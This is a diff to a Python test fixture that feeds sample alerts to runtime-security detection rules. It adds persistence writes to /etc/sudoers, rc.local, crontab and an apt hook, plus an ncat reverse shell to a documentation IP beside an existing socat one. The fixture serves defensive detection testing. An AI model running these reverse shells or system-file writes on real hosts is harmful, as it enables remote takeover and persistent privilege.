@@ -259,8 +259,13 @@ def default_rule_samples(t0_ns: int = T0_NS) -> list[tuple[str, str, list[dict[s
         opened("Write below etc", "Error", "/etc/passwd", "python3", "/usr/bin/python3.11", "python3 -c ..."),
         opened("Write below etc", "Error", "/etc/systemd/system/sync.service", "cp", "/usr/bin/cp",
                "cp sync.service /etc/systemd/system/"),
-        opened("Write below etc", "Error", "/etc/udev/rules.d/99-x.rules", "tee", "/usr/bin/tee", "tee x")],
-        "ld_so_preload_write", "account_db_unusual_writer", "systemd_unit_write", "udev_rule_write")
+        opened("Write below etc", "Error", "/etc/udev/rules.d/99-x.rules", "tee", "/usr/bin/tee", "tee x"),
+        opened("Write below etc", "Error", "/etc/sudoers", "sed", "/usr/bin/sed", "sed -i $a... /etc/sudoers"),
+        opened("Write below etc", "Error", "/etc/rc.local", "tee", "/usr/bin/tee", "tee -a /etc/rc.local"),
+        opened("Write below etc", "Error", "/etc/apt/apt.conf.d/99hook", "tee", "/usr/bin/tee", "tee x"),
+        opened("Write below etc", "Error", "/etc/crontab", "tee", "/usr/bin/tee", "tee -a /etc/crontab")],
+        "ld_so_preload_write", "account_db_unusual_writer", "systemd_unit_write", "udev_rule_write",
+        "sudoers_modified", "rc_script_write", "package_manager_hook_write", "cron_file_write")
     case("Write below root", sandbox, [opened(
         "Write below root", "Error", "/root/.bashrc", "bash", "/usr/bin/bash", "bash")], "shell_profile_write")
     case("Modify Shell Configuration File", incubating, [opened(
@@ -278,7 +283,10 @@ def default_rule_samples(t0_ns: int = T0_NS) -> list[tuple[str, str, list[dict[s
         extra={"container.id": "3ad7b26ded6d"})], "netcat_exec_shell")
     case("Netcat/Socat Remote Code Execution on Host", sandbox, [_proc_alert(
         "Netcat/Socat Remote Code Execution on Host", "Warning", "Netcat/Socat runs on host", next(t), "execve",
-        "socat", "/usr/bin/socat", "socat exec:/bin/bash,pty,stderr tcp:203.0.113.9:4444")], "socat_reverse_shell")
+        "socat", "/usr/bin/socat", "socat exec:/bin/bash,pty,stderr tcp:203.0.113.9:4444"),
+        _proc_alert("Netcat/Socat Remote Code Execution on Host", "Warning", "Netcat/Socat runs on host", next(t),
+                    "execve", "ncat", "/usr/bin/ncat", "ncat --sh-exec /bin/sh 203.0.113.9 4444")],
+        "socat_reverse_shell", "netcat_exec_shell")
     case("Run shell untrusted", stable, [_proc_alert(
         "Run shell untrusted", "Notice", "Shell spawned by untrusted binary", next(t), "execve", "sh",
         "/usr/bin/dash", "sh -c id;uname -a", "nginx", "www-data", 33, tty=0)],
